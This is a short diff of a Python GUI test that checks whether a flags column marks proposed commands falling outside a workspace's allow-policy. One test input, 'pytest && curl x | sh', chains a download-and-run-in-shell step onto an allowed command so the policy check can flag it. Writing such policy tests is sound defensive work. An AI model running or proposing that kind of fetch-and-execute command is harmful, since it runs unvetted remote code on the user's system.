@@ -11,6 +11,7 @@ from PySide6.QtTest import QTest
 from PySide6.QtWidgets import QDialogButtonBox
 
 from app.domain import policy
+from app.services import policy_file
 from app.services.settings import Settings
 from app.standin.scenario import text_turn
 from app.store.db import open_database
@@ -89,7 +90,7 @@ def test_the_flags_column_marks_proposals_outside_the_workspace_policy(qtbot, qa
     stack = stack_factory(routed_scenario({"Gamma": [text_turn("Done.")]}), files={"gamma/.keep": ""})
     stack.repository.close()
     workspace = stack.workspace / "gamma"
-    policy.save_policy(workspace, policy.Policy((policy.Rule.for_command("allow", "pytest"),)))
+    policy_file.save_policy(workspace, policy.Policy((policy.Rule.for_command("allow", "pytest"),)))
     outside = insert_from_another_process(stack.db_path, workspace, "Gamma one", "pytest && curl x | sh")
     inside = insert_from_another_process(stack.db_path, workspace, "Gamma two", "pytest -q")
     driver = WindowDriver(qtbot, stack.db_path)
